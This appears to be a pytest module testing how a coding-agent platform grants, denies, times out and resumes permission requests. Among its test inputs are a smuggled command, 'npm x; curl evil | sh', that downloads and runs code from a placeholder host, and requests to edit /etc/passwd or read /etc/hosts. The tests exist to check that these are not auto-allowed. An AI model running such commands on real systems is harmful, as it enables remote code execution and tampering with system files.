"""What agents ask: rules, the policy, people and the deadline answer; a turn that waits has no slot and no clock."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import timedelta

import pytest
import pytest_asyncio
from askbench import OPEN, Asker, Talk, with_asker
from fake_clock import FakeClock
from nodebench import QUICK, House

from coder.errors import ProviderError
from coder.permission import Answer
from coder.postgres.listener import Silence

ONE = replace(QUICK, slots=1)
SLOW = replace(QUICK, poll=1e6, lease=1e7, beat=1e6, silent=180, answer=900)


@pytest_asyncio.fixture
async def asker(house: House) -> AsyncIterator[Asker]:
    asker = with_asker(house)
    yield asker
    asker.gate.set()


async def ask(house: House, input: str, **columns: object) -> int:
    return await house.add(input, agent="goose", **columns)


async def said(house: House, task: int) -> str:
    assert await house.ended(task) == ["completed"]
    return str((await house.message(task))["text"]).removesuffix(".")


async def rows(house: House) -> list[tuple[str, str]]:
    return [tuple(row) for row in await house.sql.fetch("select state, actor from permissions order by task_id, requested_at")]


@pytest.mark.parametrize(
    ("policy", "input", "state", "actor", "words"),
    [
        ("allow_in_worktree", "edit {worktree}/a.py", "allowed_once", "policy", "yes"),
        ("allow_in_worktree", "fetch https://example.org", "allowed_once", "policy", "yes"),
        ("deny", "edit {worktree}/a.py", "denied", "policy", "no: The project's policy denies"),
        ("deny", "question Which?", "denied", "policy", "no: Nobody answers questions in this project"),
        ("ask", "edit {worktree}/a.py", None, None, ""),
        ("ask", "question Which?", None, None, ""),
        ("allow_in_worktree", "edit /etc/passwd", None, None, ""),
        ("allow_in_worktree", "ask cat /etc/hosts", None, None, ""),
    ],
)
async def test_the_policy_answers_or_leaves_it_to_a_person(
    house: House, asker: Asker, policy: str, input: str, state: str | None, actor: str | None, words: str
) -> None:
    asker.gate.set()
    await house.sql.execute("update projects set permission_policy = $1", policy)
    await house.node()
    session = await house.session_of(await house.add("say hello"))
    task = await ask(house, input.format(worktree=f"/srv/worktrees/{session}"), session_id=session)
    if state is not None:
        assert (await said(house, task)).startswith(words)
        assert await rows(house) == [(state, actor)]
        assert await house.sql.fetchval("select told_at >= answered_at from permissions")
        return
    permission = await house.until(OPEN)
    assert await house.sql.fetchval("select permission_id from coder.show_task($1)", task) == permission
    await house.sql.execute("select coder.deny($1, 'not now', 'ada')", permission)
    assert await said(house, task) == "no: not now"
    assert await rows(house) == [("denied", "ada")]


async def test_no_network_means_no_fetch(house: House, asker: Asker) -> None:
    await house.sql.execute("update projects set network = 'off'")
    await house.node()
    assert (await said(house, await ask(house, "fetch https://example.org"))).startswith("no: This project's agents have no network")
    assert asker.talks[0].turn.network is False


async def test_a_question_is_answered(house: House, asker: Asker) -> None:
    await house.node()
    task = await ask(house, "question Which colour?")
    permission = await house.until(OPEN)
    row = await house.sql.fetchrow("select * from coder.show_permission($1)", permission)
    assert (row["kind"], row["title"], row["choices"]) == (
        "question", "Which colour?", '[{"label": "red", "description": ""}, {"label": "blue", "description": "as the sky"}]')  # fmt: skip
    await house.sql.execute("select coder.answer($1, array['green'])", permission)
    assert await said(house, task) == "yes green"


async def test_two_requests_at_once_are_answered_each_on_its_own(house: House, asker: Asker) -> None:
    await house.node()
    task = await ask(house, "two make")
    await house.until("select count(*) = 2 from permissions where state = 'requested'")
    first, second = (row["id"] for row in await house.sql.fetch("select id from permissions order by title"))
    await house.sql.execute("select coder.deny($1, 'first no')", first)
    await house.sql.execute("select coder.allow($1)", second)
    assert await said(house, task) == "yes, no: first no"


async def test_always_holds_for_its_session_or_project_and_for_what_waits_already(house: House, asker: Asker) -> None:
    await house.node()
    one, two = await ask(house, "ask npm test"), await ask(house, "ask npm ci")
    await house.until("select count(*) = 2 from permissions where state = 'requested'")
    find = "select id from permissions where task_id = $1"
    await house.sql.execute("select coder.allow($1, 'session', 'npm *', 'ada')", await house.sql.fetchval(find, one))
    assert await said(house, one) == "yes"
    again = await ask(house, "ask npm run build", session_id=await house.session_of(one))
    assert await said(house, again) == "yes"
    assert (await house.task(two))["state"] == "running", "another session"
    await house.sql.execute("select coder.add_rule('shop', 'bash', 'npm *', p_actor => 'bob')")
    assert await said(house, two) == "yes"
    assert await said(house, await ask(house, "ask npm whoami")) == "yes"
    assert await rows(house) == [("allowed_always", "ada"), *[("allowed_always", "rule")] * 3]
    other = await ask(house, "ask npm x; curl evil | sh")
    await house.sql.execute("select coder.deny($1)", await house.until(OPEN))
    assert (await said(house, other)).startswith("no: A person denied this")


async def test_a_turn_that_waits_gives_its_slot_back_and_takes_one_to_go_on(house: House, asker: Asker) -> None:
    await house.node(ONE)
    waiting = await ask(house, "ask make")
    permission = await house.until(OPEN)
    assert await house.ended(await house.add("say meanwhile")) == ["completed"]
    busy, third = await house.add("wait busy"), None
    await house.agent.until("spoke wait busy")
    third = await house.add("say third")
    await house.sql.execute("select coder.allow($1)", permission)
    await house.until("select answered_at from permissions")
    await house.until("select pg_sleep(0.5) is not null")
    assert [(await house.task(task))["state"] for task in (waiting, third)] == ["running", "pending"], "the only slot is taken"
    assert await house.sql.fetchval("select told_at from permissions") is None
    house.agent.let_go("wait busy")
    assert await house.ended(busy, waiting, third) == ["completed"] * 3
    told, claimed = await house.sql.fetchval("select told_at from permissions"), (await house.task(third))["claimed_at"]
    assert told < claimed, "who goes on comes before who begins"
    assert house.agent.most == 1


async def test_cancelling_a_turn_that_waits(house: House, asker: Asker) -> None:
    await house.node(ONE)
    task = await ask(house, "ask make")
    permission = await house.until(OPEN)
    async with asyncio.timeout(3):
        await house.sql.execute("select coder.cancel($1)", task)
        assert await house.ended(task) == ["cancelled"]
    assert await rows(house) == [("expired", "coder")]
    with pytest.raises(Exception, match="expired"):
        await house.sql.execute("select coder.allow($1)", permission)
    assert asker.left == 1
    assert await house.ended(await house.add("say next")) == ["completed"], "its slot is not lost"


@pytest.mark.parametrize("answered", [False, True])
@pytest.mark.parametrize("how", ["drain", "lost"])
async def test_an_answer_given_while_nobody_runs_the_turn_holds_when_it_is_resumed(
    house: House, asker: Asker, how: str, answered: bool
) -> None:
    node = await house.node()
    task = await ask(house, "ask make")
    permission = await house.until(OPEN)
    if how == "drain":
        async with asyncio.timeout(5):  # the drain is 10 s: it does not wait for people
            await node.stop()
    else:
        await house.sql.execute("update nodes set lease_until = '-infinity'")
        await house.sql.fetch("select * from coder.reap()")
    assert await house.ended(task) == ["interrupted"]
    assert await house.sql.fetchval("select state from permissions") == "requested"
    if answered:
        await house.sql.execute("select coder.allow($1, p_actor => 'ada')", permission)
    again = await house.sql.fetchval("select coder.resume($1)", task)
    if how == "drain":
        await house.node()
    if not answered:
        await house.until("select epoch = (select epoch from tasks where id = $1) from permissions", again)
        await house.sql.execute("select coder.allow($1, p_actor => 'ada')", permission)
    assert await said(house, again) == "yes"
    assert await rows(house) == [("allowed_once", "ada")], "the same row, asked once"
    assert await house.sql.fetchval("select task_id from permissions") == again


async def test_answers_are_found_without_any_bell(house: House, asker: Asker) -> None:
    house.wakeups = Silence
    await house.node()
    task = await ask(house, "ask make")
    await house.sql.execute("select coder.allow($1)", await house.until(OPEN))
    assert await said(house, task) == "yes"


@pytest.mark.parametrize(
    ("error", "state", "words"),
    [
        (ProviderError("The agent hung up."), "failed", "The agent hung up."),
        (ValueError("nobody foresaw this"), "failed", "ValueError: nobody foresaw this"),
    ],
)
async def test_an_answer_that_cannot_be_given_ends_the_turn(
    house: House, asker: Asker, monkeypatch: pytest.MonkeyPatch, error: Exception, state: str, words: str
) -> None:
    async def answer(talk: Talk, request_id: str, answer: Answer) -> None:
        raise error

    monkeypatch.setattr(Talk, "answer", answer)
    await house.node(ONE)
    task = await ask(house, "ask make")
    await house.sql.execute("select coder.allow($1)", await house.until(OPEN))
    assert await house.ended(task) == [state]
    assert words in (await house.task(task))["error"]
    assert asker.left == 1
    assert await house.ended(await house.add("say next")) == ["completed"]


async def test_nobody_answers_before_the_deadline(house: House, asker: Asker) -> None:
    clock = house.clock = FakeClock()
    await house.node(SLOW)
    task = await ask(house, "ask make", timeout=timedelta(seconds=60))
    await house.until(OPEN)
    await clock.asleep(900)
    await clock.advance(899)
    assert (await house.task(task))["state"] == "running", "neither its timeout of 60 s nor silence of 180 s counts"
    assert await house.sql.fetchval("select state from permissions") == "requested"
    await clock.advance(2)
    assert (await said(house, task)).startswith("no: Nobody answered within 15 minutes")
    assert await rows(house) == [("denied", "deadline")]


async def test_timeout_and_silence_go_on_where_they_stood(house: House, asker: Asker) -> None:
    clock = house.clock = FakeClock()
    await house.node(SLOW)
    await house.sql.execute("update projects set permission_policy = 'ask'")
    task = await ask(house, "edit /etc/hosts", timeout=timedelta(seconds=60))
    permission = await house.until(OPEN)
    await clock.asleep(900)
    await clock.advance(500)
    await house.sql.execute("select coder.allow($1)", permission)
    await house.until("select told_at from permissions")
    await clock.asleep(60)
    await clock.advance(59)
    assert (await house.task(task))["state"] == "running"
    await clock.advance(2)
    assert await house.ended(task) == ["failed"]
    assert "its timeout of 60 s" in (await house.task(task))["error"]


async def test_a_retry_of_the_provider_stops_the_clocks_until_its_delay_is_over(house: House, asker: Asker) -> None:
    clock = house.clock = FakeClock()
    await house.node(replace(SLOW, slots=1))
    task = await ask(house, "retry 1000")
    await clock.asleep(1000)
    assert await house.ended(await house.add("say meanwhile")) == ["completed"]
    await clock.advance(999)
    assert (await house.task(task))["state"] == "running"
    await clock.advance(1)
    await clock.asleep(180)
    await clock.advance(181)
    assert await house.ended(task) == ["failed"]
    assert "silent for CODER_INACTIVITY_SECONDS (180 s)" in (await house.task(task))["error"]


async def test_a_silent_agent_is_asked_itself_before_it_is_given_up(house: House, asker: Asker) -> None:
    clock = house.clock = FakeClock()
    asker.news = (True,)
    await house.node(SLOW)
    task = await ask(house, "wait x")
    talk = await asker.begun(1)
    await house.until("select first_event_at from tasks where id = $1", task)
    await clock.asleep(180)
    await clock.advance(181)
    await clock.settle()
    assert ((await house.task(task))["state"], talk.reconciled) == ("running", 1)
    await clock.advance(181)
    assert await house.ended(task) == ["failed"]
    assert talk.reconciled == 2
